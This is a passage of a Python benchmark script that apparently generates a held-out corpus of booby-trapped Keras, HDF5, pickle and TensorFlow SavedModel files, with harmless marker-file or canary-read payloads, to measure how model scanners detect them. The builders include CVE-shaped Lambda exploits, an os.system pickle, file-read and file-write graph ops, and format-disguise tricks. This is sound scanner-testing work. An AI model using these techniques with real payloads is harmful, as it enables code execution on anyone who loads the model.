"""Held-out corpus: code-execution and file-access techniques against model loaders
other than plain pickle, and how openward and its peers fare on it.

Why this exists
---------------
openward's own zoo (``openward._samples``) is written by the engineers who write
the readers, so it measures what they thought of. This corpus was written by a
second engineer, from published advisories and the loaders' own sources, before
reading openward's Keras, TensorFlow, TFLite, ONNX, TorchScript and detection
code. Its table is committed untuned first (``README-graph.md``); fixes come after
and the table is rerun and labelled *tuned*.

Every technique has a harmless payload: it creates a marker file (code execution,
file writes) or makes the loader return the contents of a canary file the
generator wrote (file reads). Where the real loader is installable here the
technique is *proved live*: the loader runs in a subprocess and the marker appears
(or the canary comes back). TensorFlow is not installable here, so SavedModel,
GraphDef and TFLite samples are built byte by byte from TensorFlow's published
schemas (``tensorflow/core/protobuf/*.proto``, ``framework/*.proto``,
``lite/schema/schema.fbs``) and are marked "static"; ai-edge-litert, where
installed, checks that the TFLite samples are models its interpreter accepts.

Loaders used for liveness (each optional; a missing one marks the technique
"not run"):

- Keras 3.15 (torch backend) from this interpreter; older Keras releases for the
  CVEs they fixed, installed with ``pip install --no-deps --target
  /tmp/heldout-keras/<version> keras==<version>`` and put first on ``PYTHONPATH``
  (3.8.0, 3.10.0, 3.11.2);
- torch 2.13, onnx 1.23, onnxruntime 1.32, safetensors 0.8, gguf, h5py;
- ai-edge-litert 2.3 (``pip install --target /tmp/heldout-litert ai-edge-litert``).

How tools are judged
--------------------
openward: ``python -m openward scan PATH --json`` (this checkout's ``src``);
detected when any finding is at ``high`` or above. Peers run from
``benchmarks/.venv-peers`` and are judged exactly as ``scan_peers.py`` judges them
(picklescan: dangerous globals; modelscan: any issue; fickling: at least
LIKELY_OVERTLY_MALICIOUS; modelaudit: any critical issue). A directory technique
is scanned as a directory (fickling has no directory mode: "n/a").

Usage::

    .venv/bin/python benchmarks/heldout/graph_techniques.py [--out DIR]
        [--only ID,ID] [--skip-live] [--skip-peers] [--label untuned]

Writes ``<out>/graph_techniques.json`` and ``.md`` (default
``benchmarks/results/heldout-graph``) and prints the Markdown table. Exit status 3
when a tool created a marker while scanning (a scanner executed a payload).
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import datetime
import io
import json
import marshal
import os
import shutil
import struct
import subprocess
import sys
import tarfile
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
REPO = HERE.parent.parent
PYTHON = sys.executable
KERAS_TARGETS = Path(os.environ.get("HELDOUT_KERAS_TARGETS", "/tmp/heldout-keras"))
LITERT_TARGET = Path(os.environ.get("HELDOUT_LITERT_TARGET", "/tmp/heldout-litert"))
LIVE_TIMEOUT_S = 180.0

# ---------------------------------------------------------------------------
# The technique record
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Payload:
    """Where one technique's harmless effect lands."""

    marker: Path
    """File the payload creates (code execution, file write)."""
    canary: Path
    """File the payload reads (file-read techniques); holds ``token``."""
    token: str
    """Random-looking text written to ``canary``; its return proves the read."""


@dataclass(frozen=True)
class Live:
    """How to prove a technique in its real loader."""

    script: str
    """Python run in a subprocess; ``{path}``, ``{marker}``, ``{canary}`` are filled."""
    proof: str = "marker"
    """``marker``: the marker file must exist; ``token``: the canary's token must be printed."""
    keras: str | None = None
    """Keras release to put first on PYTHONPATH (from KERAS_TARGETS); None: the installed one."""
    extra_path: tuple[str, ...] = ()
    env: tuple[tuple[str, str], ...] = ()


@dataclass(frozen=True)
class Technique:
    id: str
    family: str
    title: str
    source: str
    """Where it was published (advisory, paper, loader source) or how it was derived."""
    loader: str
    """The call that runs the payload."""
    build: Callable[[Path, Payload], Path]
    """Writes the sample under the given folder; returns the path a user would scan."""
    live: Live | None = None
    static_reason: str = ""
    """Why it is not proved live here (when ``live`` is None)."""


# ---------------------------------------------------------------------------
# Small shared helpers
# ---------------------------------------------------------------------------


def touch_code(marker: Path) -> str:
    """Python expression that creates ``marker`` (the harmless payload)."""
    return f"__import__('pathlib').Path({str(marker)!r}).touch()"


def lambda_code_b64(marker: Path) -> str:
    """Marshalled bytecode of ``lambda x: (touch, x)[1]``, as Keras's func_dump writes it.

    The bytecode is CPython-version specific; the liveness check runs this same
    interpreter.
    """
    module = compile(f"lambda x: ({touch_code(marker)}, x)[1]", "<payload>", "eval")
    fn_code = next(c for c in module.co_consts if hasattr(c, "co_code"))
    return base64.encodebytes(marshal.dumps(fn_code)).decode("ascii")


def write_zip(
    path: Path,
    members: list[tuple[str, bytes]],
    *,
    prefix: bytes = b"",
    compression: int = zipfile.ZIP_STORED,
) -> Path:
    """A zip of ``members`` (order and repeats kept), after ``prefix`` bytes."""
    buf = io.BytesIO()
    buf.write(prefix)
    with zipfile.ZipFile(buf, "a" if prefix else "w", compression) as zf:
        for name, data in members:
            with __import__("warnings").catch_warnings():
                __import__("warnings").simplefilter("ignore")  # duplicate names on purpose
                zf.writestr(name, data)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(buf.getvalue())
    return path


def pickle_touch(marker: Path, protocol: int = 2) -> bytes:
    """A pickle that runs ``os.system('touch MARKER')``, the form published payloads take."""
    import pickle

    return pickle.dumps(_TouchPayload(marker), protocol=protocol)


class _TouchPayload:
    """Pickles as ``os.system('touch MARKER')``, the form published payloads take."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch {self.marker}",))


# ---------------------------------------------------------------------------
# Keras (.keras zip, directory, legacy HDF5) -- configs written by hand, the way
# the published proofs of concept edit config.json
# ---------------------------------------------------------------------------

KERAS_METADATA = json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"})


def keras_tensor(layer: str, shape: list[int | None]) -> dict[str, Any]:
    return {
        "class_name": "__keras_tensor__",
        "config": {"shape": shape, "dtype": "float32", "keras_history": [layer, 0, 0]},
    }


def keras_input(name: str = "x", width: int = 4) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {
            "batch_shape": [None, width],
            "dtype": "float32",
            "sparse": False,
            "ragged": False,
            "name": name,
            "optional": False,
        },
        "registered_name": None,
        "name": name,
        "inbound_nodes": [],
    }


def keras_layer(
    class_name: str,
    name: str,
    config: dict[str, Any],
    *,
    module: str = "keras.layers",
    inbound: str | None = "x",
    kwargs: dict[str, Any] | None = None,
    width: int = 4,
) -> dict[str, Any]:
    layer: dict[str, Any] = {
        "module": module,
        "class_name": class_name,
        "config": {"name": name, "trainable": True, "dtype": "float32", **config},
        "registered_name": None,
        "build_config": {"input_shape": [None, width]},
        "name": name,
        "inbound_nodes": [],
    }
    if inbound is not None:
        layer["inbound_nodes"] = [
            {"args": [keras_tensor(inbound, [None, width])], "kwargs": kwargs or {}}
        ]
    elif kwargs is not None:
        layer["inbound_nodes"] = [{"args": [], "kwargs": kwargs}]
    return layer


def keras_functional(layers: list[dict[str, Any]], output: str) -> dict[str, Any]:
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": "functional",
            "trainable": True,
            "layers": layers,
            "input_layers": [layers[0]["name"], 0, 0],
            "output_layers": [output, 0, 0],
        },
        "registered_name": "Functional",
        "build_config": {"input_shape": None},
        "compile_config": None,
    }


def keras_lambda_function(marker: Path) -> dict[str, Any]:
    return {
        "class_name": "__lambda__",
        "config": {"code": lambda_code_b64(marker), "defaults": None, "closure": None},
    }


def keras_weights_h5(groups: list[tuple[str, str]]) -> bytes:
    """model.weights.h5 for layers without variables, laid out as Keras 3 writes it."""
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as h5:
        h5.create_group("layers")
        for group, name in groups:
            h5.create_group(f"layers/{group}/vars").attrs["name"] = name
        h5.create_group("vars").attrs["name"] = "functional"
    return buf.getvalue()


def keras_members(config: dict[str, Any], groups: list[tuple[str, str]]) -> list[tuple[str, bytes]]:
    return [
        ("metadata.json", KERAS_METADATA.encode()),
        ("config.json", json.dumps(config).encode()),
        ("model.weights.h5", keras_weights_h5(groups)),
    ]


def keras_lambda_model(marker: Path) -> tuple[dict[str, Any], list[tuple[str, str]]]:
    """Input -> Lambda(bytecode that touches ``marker``), the CVE-2024-3660 shape."""
    lam = keras_layer(
        "Lambda",
        "lam",
        {"function": keras_lambda_function(marker), "arguments": {}},
        kwargs={"mask": None},
    )
    config = keras_functional([keras_input(), lam], "lam")
    return config, [("input_layer", "x"), ("lambda", "lam")]


def build_keras_activation_lambda(out: Path, p: Payload) -> Path:
    activation = keras_layer(
        "Activation",
        "act",
        {
            "activation": {
                "class_name": "__lambda__",
                "config": {"value": [lambda_code_b64(p.marker), None, None]},
            }
        },
    )
    config = keras_functional([keras_input(), activation], "act")
    return write_zip(
        out / "activation.keras",
        keras_members(config, [("input_layer", "x"), ("activation", "act")]),
    )


def build_keras_nested_wrapper_lambda(out: Path, p: Payload) -> Path:
    """A Lambda inside TimeDistributed inside a Sequential inside the Functional model."""
    lam = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "inner",
            "trainable": True,
            "dtype": "float32",
            "function": keras_lambda_function(p.marker),
            "arguments": {},
        },
        "registered_name": None,
    }
    wrapper = {
        "module": "keras.layers",
        "class_name": "TimeDistributed",
        "config": {"name": "td", "trainable": True, "dtype": "float32", "layer": lam},
        "registered_name": None,
        "build_config": {"input_shape": [None, 2, 2]},
    }
    sequential = keras_layer(
        "Sequential",
        "seq",
        {
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {"batch_shape": [None, 2, 2], "dtype": "float32", "name": "si"},
                    "registered_name": None,
                },
                wrapper,
            ],
            "build_input_shape": [None, 2, 2],
        },
        module="keras",
        width=4,
    )
    sequential["build_config"] = {"input_shape": [None, 2, 2]}
    sequential["inbound_nodes"] = [{"args": [keras_tensor("x3", [None, 2, 2])], "kwargs": {}}]
    inp = keras_input("x3")
    inp["config"]["batch_shape"] = [None, 2, 2]
    config = keras_functional([inp, sequential], "seq")
    return write_zip(
        out / "nested.keras",
        keras_members(config, [("input_layer", "x3"), ("sequential", "seq")]),
    )


def build_keras_cve_2025_1550(out: Path, p: Payload) -> Path:
    """Keras <= 3.8 imports any ``module`` a config names: Lambda(function=os.system)."""
    lam = keras_layer(
        "Lambda",
        "cmd",
        {
            "function": {
                "module": "os",
                "class_name": "function",
                "config": "system",
                "registered_name": "system",
            },
            "arguments": {},
        },
        inbound=None,
        kwargs={"inputs": f"touch {p.marker}"},
    )
    config = keras_functional([keras_input(), lam], "cmd")
    return write_zip(
        out / "cve_2025_1550.keras",
        keras_members(config, [("input_layer", "x"), ("lambda", "cmd")]),
    )


def build_keras_cve_2025_8747(out: Path, p: Payload) -> Path:
    """Keras 3.0-3.10 under safe_mode: Lambda(function=keras.utils.get_file) copies a file.

    ``origin`` is a ``file://`` URL here so that the proof needs no network; a real
    attack downloads from its own server into any path (``cache_dir``/``fname``).
    """
    source = p.canary.with_name(p.canary.name + ".src")
    lam = keras_layer(
        "Lambda",
        "fetch",
        {
            "function": {
                "module": "keras.utils",
                "class_name": "function",
                "config": "get_file",
                "registered_name": "function",
            },
            "arguments": {
                "origin": source.as_uri(),
                "cache_dir": str(p.marker.parent),
                "cache_subdir": ".",
            },
        },
        inbound=None,
        kwargs={"inputs": p.marker.name},
    )
    config = keras_functional([keras_input(), lam], "fetch")
    source.write_text("downloaded by the model\n")
    return write_zip(
        out / "cve_2025_8747.keras",
        keras_members(config, [("input_layer", "x"), ("lambda", "fetch")]),
    )


def build_keras_cve_2025_9906(out: Path, p: Payload) -> Path:
    """Keras <= 3.10 under safe_mode: a config switches safe mode off, then loads a Lambda.

    Layer ``off`` calls ``global_state.set_global_attribute("safe_mode_saving",
    value=False)`` (any function of a ``keras.*`` module could be named); layer
    ``inner`` then calls ``keras.models.model_from_json`` on a model whose Lambda
    carries bytecode, which the global flag now lets through.
    """
    inner, _ = keras_lambda_model(p.marker)
    off = keras_layer(
        "Lambda",
        "off",
        {
            "function": {
                "module": "keras.src.backend.common.global_state",
                "class_name": "function",
                "config": "set_global_attribute",
                "registered_name": "function",
            },
            "arguments": {"value": False},
        },
        inbound=None,
        kwargs={"inputs": "safe_mode_saving"},
    )
    load = keras_layer(
        "Lambda",
        "inner",
        {
            "function": {
                "module": "keras.models",
                "class_name": "function",
                "config": "model_from_json",
                "registered_name": "function",
            },
            "arguments": {},
        },
        inbound=None,
        kwargs={"inputs": json.dumps(inner)},
    )
    config = keras_functional([keras_input(), off, load], "inner")
    return write_zip(
        out / "cve_2025_9906.keras",
        keras_members(config, [("input_layer", "x"), ("lambda", "off"), ("lambda_1", "inner")]),
    )


def keras_legacy_h5(marker: Path, *, userblock: bytes = b"") -> bytes:
    """A legacy (tf.keras / Keras 2) HDF5 model whose Lambda carries bytecode."""
    import h5py
    import numpy as np

    config, _ = keras_lambda_model(marker)
    for layer in config["config"]["layers"]:
        layer.pop("module", None)
        layer.pop("registered_name", None)
        layer.pop("build_config", None)
    legacy = {"class_name": "Functional", "config": config["config"]}
    buf = io.BytesIO()
    size = 0
    if userblock:
        size = 512
        while size < len(userblock):
            size *= 2
    with h5py.File(buf, "w", userblock_size=size) as h5:
        h5.attrs["backend"] = "tensorflow"
        h5.attrs["keras_version"] = "2.15.0"
        h5.attrs["model_config"] = json.dumps(legacy)
        weights = h5.create_group("model_weights")
        weights.attrs["backend"] = "tensorflow"
        weights.attrs["keras_version"] = "2.15.0"
        weights.attrs["layer_names"] = np.array([b"x", b"lam"])
        for name in ("x", "lam"):
            weights.create_group(name).attrs["weight_names"] = np.array([], dtype="S1")
    data = bytearray(buf.getvalue())
    data[: len(userblock)] = userblock
    return bytes(data)


def build_keras_cve_2025_9905(out: Path, p: Payload) -> Path:
    path = out / "cve_2025_9905.h5"
    path.write_bytes(keras_legacy_h5(p.marker))
    return path


def build_keras_h5_userblock(out: Path, p: Payload) -> Path:
    """The same legacy model behind a 512-byte HDF5 user block that reads as JSON.

    HDF5 looks for its superblock at 0, 512, 1024, ... so the library (and Keras)
    opens the file; a detector that wants the signature at offset 0 sees JSON.
    """
    note = json.dumps({"model_card": "see README", "license": "apache-2.0"}).encode()
    block = note + b" " * (512 - len(note) - 1) + b"\n"
    path = out / "userblock.h5"
    path.write_bytes(keras_legacy_h5(p.marker, userblock=block))
    return path


def build_keras_tfsmlayer(out: Path, p: Payload) -> Path:
    """TFSMLayer runs tf.saved_model.load on any path: a graph outside the scanned files."""
    layer = keras_layer(
        "TFSMLayer",
        "ext",
        {
            "filepath": "/srv/shared/models/feature_extractor",
            "call_endpoint": "serving_default",
            "call_training_endpoint": None,
        },
    )
    config = keras_functional([keras_input(), layer], "ext")
    return write_zip(
        out / "tfsm.keras", keras_members(config, [("input_layer", "x"), ("tfsm_layer", "ext")])
    )


def build_keras_torch_module_wrapper(out: Path, p: Payload) -> Path:
    """TorchModuleWrapper torch.load()s its base64 ``module`` with weights_only=False.

    The embedded bytes are a bare protocol-2 pickle, not a torch zip: torch.load's
    legacy path unpickles the "magic number" first, so the payload runs before
    torch checks anything.
    """
    wrapper = keras_layer(
        "TorchModuleWrapper",
        "torch_wrapper",
        {
            "module": base64.b64encode(pickle_touch(p.marker)).decode("ascii"),
            "output_shape": None,
        },
    )
    config = keras_functional([keras_input(), wrapper], "torch_wrapper")
    return write_zip(
        out / "torch_wrapper.keras",
        keras_members(config, [("input_layer", "x"), ("torch_module_wrapper", "torch_wrapper")]),
    )


def build_keras_vocabulary_file(out: Path, p: Payload) -> Path:
    """StringLookup(vocabulary=PATH) reads any file (or URL) into the model (CVE-2025-12058)."""
    p.canary.write_text(p.token + "\n")
    layer = keras_layer(
        "StringLookup",
        "lookup",
        {
            "invert": False,
            "max_tokens": None,
            "num_oov_indices": 1,
            "oov_token": "[UNK]",
            "mask_token": None,
            "output_mode": "int",
            "vocabulary": str(p.canary),
            "idf_weights": None,
            "encoding": "utf-8",
            "sparse": False,
            "pad_to_max_tokens": False,
            "vocabulary_dtype": "string",
        },
    )
    inp = keras_input()
    inp["config"]["dtype"] = "string"
    config = keras_functional([inp, layer], "lookup")
    return write_zip(
        out / "vocabulary.keras",
        keras_members(config, [("input_layer", "x"), ("string_lookup", "lookup")]),
    )


def build_keras_textvectorization_file(out: Path, p: Payload) -> Path:
    """TextVectorization with a vocabulary *and* stop-word-free split read from paths."""
    p.canary.write_text(p.token + "\n")
    layer = keras_layer(
        "TextVectorization",
        "tv",
        {
            "max_tokens": None,
            "standardize": "lower_and_strip_punctuation",
            "split": "whitespace",
            "output_mode": "int",
            "output_sequence_length": None,
            "pad_to_max_tokens": False,
            "sparse": False,
            "ragged": False,
            "vocabulary": "file://" + str(p.canary),
            "idf_weights": None,
            "encoding": "utf-8",
            "vocabulary_size": 3,
        },
    )
    inp = keras_input()
    inp["config"]["dtype"] = "string"
    config = keras_functional([inp, layer], "tv")
    return write_zip(
        out / "textvec.keras",
        keras_members(config, [("input_layer", "x"), ("text_vectorization", "tv")]),
    )


def build_keras_lzma_member(out: Path, p: Payload) -> Path:
    """config.json stored with zip method 14 (LZMA), which Python's zipfile reads."""
    config, groups = keras_lambda_model(p.marker)
    return write_zip(
        out / "lzma.keras", keras_members(config, groups), compression=zipfile.ZIP_LZMA
    )


def zip_bytes(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buf.getvalue()


def safetensors_around(tail: bytes, *, metadata: dict[str, str] | None = None) -> bytes:
    """A valid safetensors file whose last tensor (U8) is ``tail``, byte for byte."""
    header: dict[str, Any] = {
        "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
        "blob": {"dtype": "U8", "shape": [len(tail)], "data_offsets": [8, 8 + len(tail)]},
    }
    if metadata:
        header["__metadata__"] = metadata
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + b"\x00" * 8 + tail


def build_keras_prefixed_zip(out: Path, p: Payload) -> Path:
    """A .keras archive that is also a valid safetensors file (the zip is its last tensor).

    Keras checks ``zipfile.is_zipfile`` and reads the archive from its end, so the
    safetensors header in front changes nothing for Keras; a detector that
    decides by the first bytes sees safetensors.
    """
    config, groups = keras_lambda_model(p.marker)
    path = out / "prefixed.keras"
    path.write_bytes(safetensors_around(zip_bytes(keras_members(config, groups))))
    return path


def build_keras_duplicate_config(out: Path, p: Payload) -> Path:
    """Two config.json members: a benign one first, the Lambda last (zipfile keeps the last)."""
    benign = keras_functional(
        [keras_input(), keras_layer("Activation", "act", {"activation": "relu"})], "act"
    )
    config, groups = keras_lambda_model(p.marker)
    members = keras_members(config, groups)
    members.insert(1, ("config.json", json.dumps(benign).encode()))
    return write_zip(out / "duplicate.keras", members)


def build_keras_directory(out: Path, p: Payload) -> Path:
    """A model saved as a folder (config.json + model.weights.h5): load_model(folder)."""
    config, groups = keras_lambda_model(p.marker)
    folder = out / "keras_model_dir"
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in keras_members(config, groups):
        (folder / name).write_bytes(data)
    return folder


def build_keras_pickle_unpickle_model(out: Path, p: Payload) -> Path:
    """A pickle whose only call is Keras's own ``Model._unpickle_model`` (KERAS-MFV-006 class).

    Keras pickles models through ``KerasSaveable.__reduce__``; unpickling calls
    ``_unpickle_model(BytesIO(zip))``, which loads the embedded .keras with
    ``safe_mode=False``. The pickle names only Keras and ``_io.BytesIO``
    (protocol 4, dotted qualname): the bytecode sits in the zip inside it.
    """
    config, groups = keras_lambda_model(p.marker)
    blob = zip_bytes(keras_members(config, groups))

    def short_unicode(text: str) -> bytes:
        raw = text.encode()
        return b"\x8c" + bytes([len(raw)]) + raw

    stream = (
        b"\x80\x04"
        + short_unicode("keras.src.models.model")
        + short_unicode("Model._unpickle_model")
        + b"\x93"  # STACK_GLOBAL
        + short_unicode("_io")
        + short_unicode("BytesIO")
        + b"\x93"
        + b"B"  # BINBYTES
        + struct.pack("<I", len(blob))
        + blob
        + b"\x85R"  # TUPLE1, REDUCE: BytesIO(blob)
        + b"\x85R"  # TUPLE1, REDUCE: Model._unpickle_model(buffer)
        + b"."
    )
    path = out / "keras_model.pkl"
    path.write_bytes(stream)
    return path


# ---------------------------------------------------------------------------
# TensorFlow SavedModel / GraphDef -- protobuf written field by field from
# tensorflow/core/{framework,protobuf}/*.proto (TensorFlow is not installable
# here; tensorboard's copies of the generated classes parse every sample, see
# check_tf_schemas)
# ---------------------------------------------------------------------------


def pb_varint(value: int, *, min_bytes: int = 1) -> bytes:
    """Base-128 varint; ``min_bytes`` pads it (over-long varints are legal protobuf)."""
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        if value or len(out) + 1 < min_bytes:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


PbValue = int | bool | float | str | bytes


def pb(*fields: tuple[int, PbValue] | None, long_varints: bool = False) -> bytes:
    """Serialise ``(field number, value)`` pairs in the order given.

    int/bool: varint; float: fixed32; str/bytes: length-delimited (a nested
    message is the bytes ``pb`` returned for it). ``long_varints`` writes every
    tag and length on five bytes, which protobuf parsers accept.
    """
    width = 5 if long_varints else 1
    out = bytearray()
    for item in fields:
        if item is None:
            continue
        number, value = item
        if isinstance(value, (bool, int)):
            out += pb_varint(number << 3, min_bytes=width) + pb_varint(int(value) & (2**64 - 1))
        elif isinstance(value, float):
            out += pb_varint(number << 3 | 5, min_bytes=width) + struct.pack("<f", value)
        else:
            raw = value.encode() if isinstance(value, str) else value
            out += pb_varint(number << 3 | 2, min_bytes=width)
            out += pb_varint(len(raw), min_bytes=width) + raw
    return bytes(out)


DT_FLOAT, DT_INT32, DT_STRING, DT_INT64, DT_BOOL, DT_RESOURCE = 1, 3, 7, 9, 10, 20


def tf_attr(**value: PbValue) -> bytes:
    """AttrValue: s=2, i=3, f=4, b=5, type=6, shape=7, tensor=8, list=1, func=10."""
    numbers = {"list": 1, "s": 2, "i": 3, "f": 4, "b": 5, "type": 6, "shape": 7, "tensor": 8}
    numbers |= {"func": 10}
    ((key, raw),) = value.items()
    return pb((numbers[key], raw))


def tf_string_tensor(*values: str) -> bytes:
    """TensorProto: dtype=1, tensor_shape=2, string_val=8."""
    shape = pb((2, pb((1, len(values))))) if len(values) != 1 else b""
    return pb((1, DT_STRING), (2, shape), *[(8, v) for v in values])


def tf_node(name: str, op: str, inputs: tuple[str, ...] = (), **attrs: bytes) -> bytes:
    """NodeDef: name=1, op=2, input=3, attr=5 (map entry key=1, value=2)."""
    return pb(
        (1, name),
        (2, op),
        *[(3, i) for i in inputs],
        *[(5, pb((1, k), (2, v))) for k, v in attrs.items()],
    )


def tf_const_string(name: str, value: str) -> bytes:
    return tf_node(
        name, "Const", dtype=tf_attr(type=DT_STRING), value=tf_attr(tensor=tf_string_tensor(value))
    )


def tf_function(name: str, nodes: list[bytes], *, outputs: dict[str, str] | None = None) -> bytes:
    """FunctionDef: signature(OpDef name=1, output_arg=3)=1, node_def=3, ret=4."""
    outputs = outputs or {}
    signature = pb(
        (1, name),
        *[(3, pb((1, key), (3, DT_STRING))) for key in outputs],
        (17, True),  # is_stateful
    )
    return pb(
        (1, signature),
        *[(3, n) for n in nodes],
        *[(4, pb((1, k), (2, v))) for k, v in outputs.items()],
    )


def tf_signature(function_output: str) -> bytes:
    """SignatureDef: outputs=2 (map string -> TensorInfo name=1 dtype=2), method_name=3."""
    info = pb((1, function_output), (2, DT_STRING))
    return pb((2, pb((1, "output_0"), (2, info))), (3, "tensorflow/serving/predict"))


def tf_meta_graph(
    graph_nodes: list[bytes],
    functions: list[bytes] = (),  # type: ignore[assignment]
    *,
    signature_output: str | None = None,
    saver: bytes | None = None,
    collections: dict[str, bytes] | None = None,
    long_varints: bool = False,
    reorder: bool = False,
) -> bytes:
    """MetaGraphDef: meta_info_def=1 (tags=4, tensorflow_version=5), graph_def=2,
    saver_def=3, collection_def=4, signature_def=5.

    GraphDef: node=1, library=2 (FunctionDefLibrary function=1), versions=4.
    """
    graph_fields: list[tuple[int, PbValue] | None] = [
        *[(1, n) for n in graph_nodes],
        (2, pb(*[(1, f) for f in functions])) if functions else None,
        (4, pb((1, 1645), (2, 12))),
    ]
    if reorder:
        graph_fields.reverse()
    graph = pb(*graph_fields, long_varints=long_varints)
    info = pb((4, "serve"), (5, "2.15.0"), (6, "v2.15.0-rc1-8-g6887368d6d4"))
    meta_fields: list[tuple[int, PbValue] | None] = [
        (1, info),
        (2, graph),
        (3, saver) if saver else None,
        *[(4, pb((1, k), (2, v))) for k, v in (collections or {}).items()],
        (5, pb((1, "serving_default"), (2, tf_signature(signature_output))))
        if signature_output
        else None,
    ]
    if reorder:
        meta_fields.reverse()
    return pb(*meta_fields, long_varints=long_varints)


def tf_saved_model(
    meta_graph: bytes, *, reorder: bool = False, long_varints: bool = False
) -> bytes:
    """SavedModel: saved_model_schema_version=1, meta_graphs=2."""
    fields: list[tuple[int, PbValue] | None] = [(1, 1), (2, meta_graph)]
    if reorder:
        fields.reverse()
    return pb(*fields, long_varints=long_varints)


def write_saved_model(folder: Path, saved_model: bytes, *, name: str = "saved_model.pb") -> Path:
    (folder / "variables").mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(saved_model)
    return folder


def tf_call_graph(function: str) -> list[bytes]:
    """The serving graph: one StatefulPartitionedCall of ``function`` (as TF2 saves it)."""
    call = tf_node(
        "StatefulPartitionedCall",
        "StatefulPartitionedCall",
        f=tf_attr(func=pb((1, function))),
        Tin=tf_attr(list=b""),
        Tout=tf_attr(list=pb((6, DT_STRING))),
    )
    return [call]


def tf_function_model(nodes: list[bytes], out: str, **kwargs: Any) -> bytes:
    function = tf_function("__inference_serve_101", nodes, outputs={"output_0": out})
    meta = tf_meta_graph(
        tf_call_graph("__inference_serve_101"),
        [function],
        signature_output="StatefulPartitionedCall:0",
        **kwargs,
    )
    return meta


def build_tf_writefile(out: Path, p: Payload) -> Path:
    """TensorAbuse: WriteFile(Const path, Const contents) inside the serving function."""
    nodes = [
        tf_const_string("path", str(p.marker)),
        tf_const_string("contents", "written by the model\n"),
        tf_node("write", "WriteFile", ("path:output:0", "contents:output:0")),
        tf_node("out", "Identity", ("contents:output:0", "^write"), T=tf_attr(type=DT_STRING)),
    ]
    return write_saved_model(
        out / "sm_writefile", tf_saved_model(tf_function_model(nodes, "out:output:0"))
    )


def build_tf_printv2_file(out: Path, p: Payload) -> Path:
    """PrintV2(output_stream='file:///...') appends the printed tensor to a file."""
    nodes = [
        tf_const_string("msg", "printed by the model"),
        tf_node(
            "print",
            "PrintV2",
            ("msg:output:0",),
            output_stream=tf_attr(s="file://" + str(p.marker)),
            end=tf_attr(s="\n"),
        ),
        tf_node("out", "Identity", ("msg:output:0", "^print"), T=tf_attr(type=DT_STRING)),
    ]
    return write_saved_model(
        out / "sm_printv2", tf_saved_model(tf_function_model(nodes, "out:output:0"))
    )


def build_tf_reordered(out: Path, p: Payload) -> Path:
    """saved_model.pb with every message's fields reversed and five-byte tags and lengths.

    Protobuf parsers accept fields in any order and over-long varints; the
    bytes no longer start with ``08 01 12`` (schema version, then meta_graphs).
    """
    nodes = [
        tf_const_string("path", str(p.marker)),
        tf_const_string("contents", "written by the model\n"),
        tf_node("write", "WriteFile", ("path:output:0", "contents:output:0")),
        tf_node("out", "Identity", ("contents:output:0", "^write"), T=tf_attr(type=DT_STRING)),
    ]
    meta = tf_function_model(nodes, "out:output:0", reorder=True, long_varints=True)
    return write_saved_model(
        out / "sm_reordered", tf_saved_model(meta, reorder=True, long_varints=True)
    )


def build_tf_pbtxt(out: Path, p: Payload) -> Path:
    """saved_model.pbtxt (text format): TensorFlow's loader reads it when no .pb exists."""
    text = f"""saved_model_schema_version: 1
meta_graphs {{
  meta_info_def {{ tags: "serve" tensorflow_version: "2.15.0" }}
  graph_def {{
    node {{ name: "path" op: "Const"
      attr {{ key: "dtype" value {{ type: DT_STRING }} }}
      attr {{ key: "value" value {{ tensor {{ dtype: DT_STRING string_val: "{p.marker}" }} }} }} }}
    node {{ name: "contents" op: "Const"
      attr {{ key: "dtype" value {{ type: DT_STRING }} }}
      attr {{ key: "value" value {{ tensor {{ dtype: DT_STRING string_val: "x" }} }} }} }}
    node {{ name: "write" op: "WriteFile" input: "path" input: "contents" }}
    node {{ name: "out" op: "Identity" input: "contents" input: "^write"
      attr {{ key: "T" value {{ type: DT_STRING }} }} }}
    versions {{ producer: 1645 min_consumer: 12 }}
  }}
  signature_def {{ key: "serving_default" value {{
    outputs {{ key: "output_0" value {{ name: "out:0" dtype: DT_STRING }} }}
    method_name: "tensorflow/serving/predict" }} }}
}}
"""
    folder = out / "sm_pbtxt"
    (folder / "variables").mkdir(parents=True, exist_ok=True)
    (folder / "saved_model.pbtxt").write_text(text)
    return folder


def build_tf_matchingfiles_readfile(out: Path, p: Payload) -> Path:
    """TensorAbuse: list a directory (MatchingFiles) and read what it finds (ReadFile)."""
    p.canary.write_text(p.token + "\n")
    nodes = [
        tf_const_string("pattern", str(p.canary.parent / "canary-*")),
        tf_node("ls", "MatchingFiles", ("pattern:output:0",)),
        tf_node("first", "Identity", ("ls:filenames:0",), T=tf_attr(type=DT_STRING)),
        tf_const_string("direct", str(p.canary)),
        tf_node("read", "ReadFile", ("direct:output:0",)),
    ]
    return write_saved_model(
        out / "sm_readfile", tf_saved_model(tf_function_model(nodes, "read:contents:0"))
    )


def build_tf_debug_identity(out: Path, p: Payload) -> Path:
    """DebugIdentity with ``debug_urls: file://DIR`` dumps every tensor it sees to DIR."""
    nodes = [
        tf_const_string("msg", "dumped"),
        tf_node(
            "dbg",
            "DebugIdentity",
            ("msg:output:0",),
            T=tf_attr(type=DT_STRING),
